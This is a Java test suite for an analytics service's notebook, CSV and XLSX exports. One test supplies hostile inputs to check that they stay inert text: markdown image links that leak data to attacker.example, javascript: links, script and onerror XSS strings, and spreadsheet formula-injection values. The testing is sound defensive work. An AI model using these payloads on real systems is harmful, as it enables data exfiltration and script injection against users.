package io.llmanalytics.export;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.llmanalytics.testing.Uploads;
import io.llmanalytics.testing.llm.InjectOpenAiStub;
import io.llmanalytics.testing.llm.LlmStubProfile;
import io.llmanalytics.testing.llm.OpenAiStub;
import io.llmanalytics.testing.llm.ScriptedAnswers;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.response.Response;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Exports of answers through the API: the notebook is valid nbformat 4 and, run in a Jupyter kernel next to the
 * session's CSV exports, reproduces every stored result; table results download as CSV and XLSX (opened with POI)
 * with the same values, formula-like text neutralised; code.py is the code.
 */
@QuarkusTest
@TestProfile(LlmStubProfile.class)
class InteractionExportsTest {

    static final String SALES = """
            date,category,product,revenue,units
            2024-01-05,Electronics,Phone,600.0,2
            2024-01-06,Furniture,=Desk,150.5,1
            2024-02-11,Electronics,-Laptop,999.5,1
            2024-02-12,Office,Pen,15.0,
            2024-03-01,Furniture,Chair,400.0,4
            """;

    static final String CHART = """
            s = df.groupby('category')['revenue'].sum().sort_values(ascending=False)
            s.plot(kind='bar', title='Revenue by category')
            plt.ylabel('revenue')
            result = s""";
    static final String TABLE = "result = df[df['revenue'] > 300][['product', 'revenue']]";
    static final String SCALAR = "result = float(df['units'].mean())";

    static final ObjectMapper JSON = new ObjectMapper();

    @InjectOpenAiStub
    OpenAiStub stub;

    @BeforeEach
    void reset() {
        stub.reset();
    }

    private JsonNode ask(String session, String question, String code) {
        return ask(session, question, code, "Here it is.");
    }

    private JsonNode ask(String session, String question, String code, String interpretation) {
        return ScriptedAnswers.ask(stub, given(), session, question, code, interpretation);
    }

    @Test
    void theNotebookRunsAndReproducesTheAnswers() throws Exception {
        String session = Uploads.sessionOf("sales.csv", SALES);
        List<JsonNode> answers = List.of(
                ask(session, "Revenue by category as a chart?", CHART),
                ask(session, "Which products sold over 300?", TABLE),
                ask(session, "Average units?", SCALAR));
        // the chart carries the data behind it, as drawn: the bars are the series' values by category
        JsonNode plot = answers.get(0).get("charts").get(0).get("plot");
        JsonNode axes = plot.get("axes").get(0);
        assertEquals("bar", axes.get("kind").asText(), plot.toString());
        assertEquals("Revenue by category", axes.get("title").asText());
        assertEquals("revenue", axes.get("y_label").asText());
        JsonNode bars = axes.get("series").get(0);
        List<String> categories = new ArrayList<>();
        answers.get(0).get("raw_result").get("data").fieldNames().forEachRemaining(categories::add);
        assertEquals(categories, JSON.convertValue(bars.get("x"), List.class));
        for (int i = 0; i < categories.size(); i++) {
            assertEquals(
                    answers.get(0)
                            .get("raw_result")
                            .get("data")
                            .get(categories.get(i))
                            .asDouble(),
                    bars.get("y").get(i).asDouble(),
                    1e-9);
        }
        assertTrue(answers.get(1).get("charts").isEmpty());

        Response notebook = given().get("/api/session/" + session + "/notebook");
        notebook.then()
                .statusCode(200)
                .contentType("application/x-ipynb+json")
                .header("Content-Disposition", containsString("attachment"));
        JsonNode nb = JSON.readTree(notebook.asByteArray());
        assertEquals(4, nb.get("nbformat").asInt());
        // intro, loading, then a markdown and a code cell per answer
        assertEquals(2 + 2 * answers.size(), nb.get("cells").size());
        String intro = String.join("", JSON.convertValue(nb.get("cells").get(0).get("source"), List.class));
        assertTrue(intro.contains("sales.csv"), intro);
        JsonNode chartCell = nb.get("cells").get(3);
        assertTrue(chartCell.get("outputs").toString().contains("image/png"), "the stored chart is an output");
        String href = JSON.readTree(given().get("/api/session/" + session)
                        .then()
                        .statusCode(200)
                        .extract()
                        .asString())
                .get("history")
                .get(0)
                .get("charts")
                .get(0)
                .get("href")
                .asText();
        String storedImage = java.util.Base64.getEncoder()
                .encodeToString(given().get(href)
                        .then()
                        .statusCode(200)
                        .contentType("image/png")
                        .extract()
                        .asByteArray());
        assertEquals(
                List.of(storedImage),
                chartCell.get("outputs").findValues("image/png").stream()
                        .map(JsonNode::asText)
                        .toList(),
                "the chart stored with the answer is the step's image output");
        assertTrue(nb.get("cells").get(5).get("outputs").toString().contains("text/html"), "a table is HTML");

        Path dir = Files.createTempDirectory("notebook-");
        Files.write(dir.resolve("session.ipynb"), notebook.asByteArray());
        Files.write(
                dir.resolve("sales.csv"),
                given().get("/api/session/" + session + "/export?dataset=sales&format=csv")
                        .then()
                        .statusCode(200)
                        .extract()
                        .asByteArray());
        JsonNode run = runNotebook(dir.resolve("session.ipynb"));
        assertEquals(List.of(1, 0, 0), JSON.convertValue(run.get("charts"), List.class), "the chart is drawn again");
        JsonNode results = run.get("results");
        // the series, as stored
        assertEquals(
                answers.get(0).get("raw_result").get("data"), results.get(0).get("data"));
        // the table (formula-like text restored from the export's neutralised CSV)
        JsonNode stored = answers.get(1).get("raw_result");
        assertEquals(stored.get("columns"), results.get(1).get("columns"));
        List<List<Object>> storedRows = new ArrayList<>();
        stored.get("data")
                .forEach(row -> storedRows.add(
                        List.of(row.get("product").asText(), row.get("revenue").asDouble())));
        List<List<Object>> rerunRows = new ArrayList<>();
        results.get(1)
                .get("data")
                .forEach(row ->
                        rerunRows.add(List.of(row.get(0).asText(), row.get(1).asDouble())));
        assertEquals(storedRows, rerunRows);
        assertTrue(rerunRows.stream().anyMatch(r -> r.get(0).equals("-Laptop")), rerunRows.toString());
        assertEquals(answers.get(2).get("raw_result").asDouble(), results.get(2).asDouble(), 1e-12);
    }

    private static JsonNode runNotebook(Path notebook) throws Exception {
        Path script = Path.of("src/test/resources/export/run_notebook.py").toAbsolutePath();
        ProcessBuilder builder = new ProcessBuilder("/usr/bin/python3", script.toString(), notebook.toString())
                .directory(notebook.getParent().toFile())
                .redirectErrorStream(false);
        builder.environment().put("PATH", "/usr/bin:/bin");
        builder.environment().put("HOME", notebook.getParent().toString());
        builder.environment()
                .put("MPLCONFIGDIR", notebook.getParent().resolve("mpl").toString());
        builder.environment().remove("PYTHONPATH");
        builder.environment().remove("MPLBACKEND");
        Path err = notebook.getParent().resolve("stderr.txt");
        builder.redirectError(err.toFile());
        Process process = builder.start();
        byte[] out = process.getInputStream().readAllBytes();
        assertTrue(process.waitFor(180, TimeUnit.SECONDS), "the notebook ran within 3 minutes");
        assertEquals(0, process.exitValue(), new String(out, StandardCharsets.UTF_8) + Files.readString(err));
        return JSON.readTree(out);
    }

    /** Hostile questions, interpretations and column names: the markdown cells render as text, the notebook runs. */
    @Test
    void hostileTextInTheNotebookStaysText() throws Exception {
        String csv = "\"![c](https://attacker.example/col.png)\",\"<b>x</b>\"\nNorth,1\nSouth,2\n";
        String session = Uploads.sessionOf("hostile.csv", csv);
        List<String[]> asked = List.of(
                new String[] {
                    "Count rows ![x](https://attacker.example/leak?d=q)\r[a](javascript:alert(1))?",
                    "See ![x](https://attacker.example/leak?d=secret) and [click](javascript:alert(x))."
                },
                new String[] {
                    "<img src=x onerror=alert(1)> <https://attacker.example/auto>\u2028# heading",
                    "Raw <script>alert(x)</script>\r\n[ref][r]\n\n[r]: https://attacker.example/ref\u2029"
                            + "![y][r] <https://attacker.example/a> www.attacker.example user@attacker.example"
                },
                new String[] {
                    "| a | b |\n|---|---|\u0085- item\r> quote",
                    "&amp;lt;script&gt; javascript: *em* `code` <!-- c --> \\![x](//attacker.example/x.png)"
                });
        for (String[] qa : asked) {
            ask(session, qa[0], "result = len(df)", qa[1]);
        }
        Response notebook = given().get("/api/session/" + session + "/notebook");
        notebook.then().statusCode(200);
        JsonNode nb = JSON.readTree(notebook.asByteArray());
        List<String> markdown = new ArrayList<>();
        for (JsonNode cell : nb.get("cells")) {
            if (cell.get("cell_type").asText().equals("markdown")) {
                String source = String.join("", JSON.convertValue(cell.get("source"), List.class));
                assertTrue(
                        !source.contains("\r")
                                && !source.contains("\u2028")
                                && !source.contains("\u2029")
                                && !source.contains("\u0085"),
                        "line breaks are normalised: " + source);
                markdown.add(source);
            }
        }
        assertEquals(1 + asked.size(), markdown.size());
        JsonNode rendered = MarkdownTextTest.render(markdown);
        for (int i = 0; i < markdown.size(); i++) {
            for (String renderer : List.of("markdown_it", "mistune")) {
                String html = rendered.get(i).get(renderer).asText();
                if (i == 0) { // the introduction: the service's own list and code spans, no link or image
                    assertTrue(!html.contains("<a ") && !html.contains("<img") && !html.contains("attacker"), html);
                } else {
                    MarkdownTextTest.assertTextOnly(html, renderer);
                }
            }
        }
        for (int i = 0; i < asked.size(); i++) {
            String shown = MarkdownTextTest.words(
                    MarkdownTextTest.textOf(rendered.get(i + 1).get("mistune").asText()));
            assertTrue(
                    shown.contains(
                            MarkdownTextTest.words(asked.get(i)[0].replaceAll("[\r\n\u0085\u2028\u2029]+", " "))),
                    "the question shows as asked: " + shown);
            assertTrue(
                    shown.contains(MarkdownTextTest.words(asked.get(i)[1])), "the interpretation as written: " + shown);
        }
        // still a valid notebook that runs (nbformat.validate, then nbclient on an ipykernel)
        Path dir = Files.createTempDirectory("notebook-");
        Files.write(dir.resolve("session.ipynb"), notebook.asByteArray());
        Files.write(
                dir.resolve("hostile.csv"),
                given().get("/api/session/" + session + "/export?dataset=hostile&format=csv")
                        .then()
                        .statusCode(200)
                        .extract()
                        .asByteArray());
        JsonNode run = runNotebook(dir.resolve("session.ipynb"));
        assertEquals(List.of(2, 2, 2), JSON.convertValue(run.get("results"), List.class));
    }

    @Test
    void tableResultsDownloadAsCsvAndXlsx() throws Exception {
        String session = Uploads.sessionOf("sales.csv", SALES);
        JsonNode series = ask(session, "Revenue by category?", CHART);
        JsonNode table = ask(session, "Which products sold over 300?", TABLE);
        String base = "/api/session/" + session + "/interactions/";

        String csv = given().get(base + series.get("conversation_id").asText() + "/result.csv")
                .then()
                .statusCode(200)
                .contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString("attachment"))
                .extract()
                .asString();
        assertEquals("category,revenue\nElectronics,1599.5\nFurniture,550.5\nOffice,15.0\n", csv);

        String tableCsv = given().get(base + table.get("conversation_id").asText() + "/result.csv")
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertTrue(tableCsv.contains("'-Laptop"), "formula-like text is neutralised: " + tableCsv);

        byte[] xlsx = given().get(base + table.get("conversation_id").asText() + "/result.xlsx")
                .then()
                .statusCode(200)
                .contentType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
                .extract()
                .asByteArray();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = workbook.getSheetAt(0);
            Row header = sheet.getRow(0);
            assertEquals(
                    List.of("index", "product", "revenue"),
                    List.of(
                            header.getCell(0).getStringCellValue(),
                            header.getCell(1).getStringCellValue(),
                            header.getCell(2).getStringCellValue()));
            JsonNode raw = table.get("raw_result");
            assertEquals(raw.get("data").size(), sheet.getLastRowNum());
            for (int i = 0; i < raw.get("data").size(); i++) {
                Row row = sheet.getRow(i + 1);
                JsonNode stored = raw.get("data").get(i);
                assertEquals(raw.get("index").get(i).asDouble(), row.getCell(0).getNumericCellValue(), 1e-12);
                assertEquals(
                        FormulaGuard.neutralise(stored.get("product").asText()),
                        row.getCell(1).getStringCellValue());
                assertEquals(CellType.NUMERIC, row.getCell(2).getCellType());
                assertEquals(stored.get("revenue").asDouble(), row.getCell(2).getNumericCellValue(), 1e-12);
            }
        }

        given().get(base + table.get("conversation_id").asText() + "/code.py")
                .then()
                .statusCode(200)
                .contentType(containsString("text/x-python"))
                .body(org.hamcrest.Matchers.is(TABLE + "\n"));
    }

    @Test
    void scalarsAndUnknownInteractionsHaveNoTable() {
        String session = Uploads.sessionOf("sales.csv", SALES);
        JsonNode scalar = ask(session, "Average units?", SCALAR);
        String base = "/api/session/" + session + "/interactions/";
        given().get(base + scalar.get("conversation_id").asText() + "/result.csv")
                .then()
                .statusCode(404)
                .contentType("application/problem+json")
                .body("detail", containsString("not a table"));
        given().get(base + "no-such-id/result.xlsx").then().statusCode(404).contentType("application/problem+json");
        given().get(base + "no-such-id/code.py").then().statusCode(404).contentType("application/problem+json");
        given().get("/api/session/00000000-0000-0000-0000-000000000000/notebook")
                .then()
                .statusCode(404)
                .contentType("application/problem+json");
    }

    @Test
    void largeTablesAreCutOrRefused() {
        String session = Uploads.sessionOf("sales.csv", SALES);
        JsonNode long_ = ask(
                session,
                "Numbers?",
                "result = pd.DataFrame({'n': range(InteractionExports_MAX + 5)})"
                        .replace("InteractionExports_MAX", String.valueOf(InteractionExports.MAX_EXPORT_ROWS)));
        String base = "/api/session/" + session + "/interactions/";
        String csv = given().get(base + long_.get("conversation_id").asText() + "/result.csv")
                .then()
                .statusCode(200)
                .header("X-Result-Truncated", "true")
                .extract()
                .asString();
        assertEquals(InteractionExports.MAX_EXPORT_ROWS + 1, csv.split("\n").length, "the header and the rows kept");
        assertTrue(csv.startsWith("n\n0\n1\n"), csv.substring(0, 20));
        JsonNode wide = ask(session, "Text?", "result = pd.DataFrame({'t': ['x' * 300] * 15000})");
        given().get(base + wide.get("conversation_id").asText() + "/result.xlsx")
                .then()
                .statusCode(422)
                .contentType("application/problem+json")
                .body("detail", containsString("larger than an export holds"));
    }
}
